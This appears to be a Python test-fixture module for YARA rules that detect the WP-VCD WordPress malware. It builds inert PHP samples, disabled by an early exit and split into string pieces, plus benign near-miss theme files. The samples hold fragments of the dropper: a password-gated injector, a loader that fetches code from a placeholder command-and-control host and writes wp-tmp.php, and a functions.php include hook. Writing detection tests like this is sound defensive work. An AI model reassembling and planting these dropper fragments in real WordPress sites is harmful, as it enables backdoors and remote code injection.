"""Inert samples and near-misses for signatures/rules/wordpress_droppers.yar.

Samples are PHP files that exit on their first line and keep WP-VCD's statements inside a comment;
the C2 address is the documentation network. Near-misses are an honest theme functions.php and a
password-protected maintenance endpoint.
"""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, split, text


def injector() -> dict[str, bytes]:
    return {
        "wp-vcd-injector-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            split(
                "if (isset($_REQUEST['action']) && ($_REQUEST['pass", "word'] == '0123456789abcdef0123456789abcdef'))"
            ),
            "{",
            split('    $div_code_name = "wp_', 'vcd";'),
            "    switch ($_REQUEST['action']) {",
            split("        case 'change_", "domain'; break;"),
            split("        case 'change_", "code'; break;"),
            "    }",
            "}",
            "*/",
        )
    }


def loader() -> dict[str, bytes]:
    return {
        "wp-vcd-loader-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            split('if ($tmpcontent = @file_get_contents("http://', f'{HOST}/code.php?i=".$_SERVER["SERVER_NAME"]))'),
            "{",
            split("    $file = ABSPATH . WPINC . '/wp-", "tmp.php';"),
            split("    if (strpos($code, 'WP_V", "_CD') === false) { }"),
            split("    // the same in wp-", "feed.php and class.theme-", "modules.php"),
            "}",
            "*/",
        )
    }


def hook() -> dict[str, bytes]:
    return {
        "wp-vcd-functions-hook-php": text(
            "<?php",
            f"return; /* {INERT_NOTE}",
            split("if (file_exists(dirname(__FILE__) . '/class.theme-", "modules.php'))"),
            split("    include_once(dirname(__FILE__) . '/class.theme-", "modules.php');"),
            "*/",
        )
    }


def near_functions() -> dict[str, bytes]:
    return {
        "theme-functions-php": text(
            "<?php",
            "/* Theme functions: loads the theme's modules and registers menus. */",
            "if (file_exists(dirname(__FILE__) . '/inc/theme-modules.php')) {",
            "    include_once(dirname(__FILE__) . '/inc/theme-modules.php');",
            "}",
            "add_action('after_setup_theme', function () { register_nav_menus(array('primary' => 'Primary')); });",
            "$tmpcontent = wp_remote_retrieve_body(wp_remote_get('https://api.wordpress.org/themes/info/1.2/'));",
        )
    }


def near_maintenance() -> dict[str, bytes]:
    return {
        "maintenance-endpoint-php": text(
            "<?php",
            "// maintenance switch for the staging site",
            "if (isset($_REQUEST['action']) && hash_equals(MAINT_HASH, md5($_REQUEST['password']))) {",
            "    switch ($_REQUEST['action']) {",
            "        case 'change_mode': update_option('maintenance', 1); break;",
            "        case 'clear_cache': wp_cache_flush(); break;",
            "    }",
            "}",
        )
    }


SAMPLES: Builders = {
    "WPVCD_Injector": injector,
    "WPVCD_Loader": loader,
    "WPVCD_Functions_Hook": hook,
}

NEARMISS: Builders = {
    "WPVCD_Injector": near_maintenance,
    "WPVCD_Loader": near_functions,
    "WPVCD_Functions_Hook": near_functions,
}
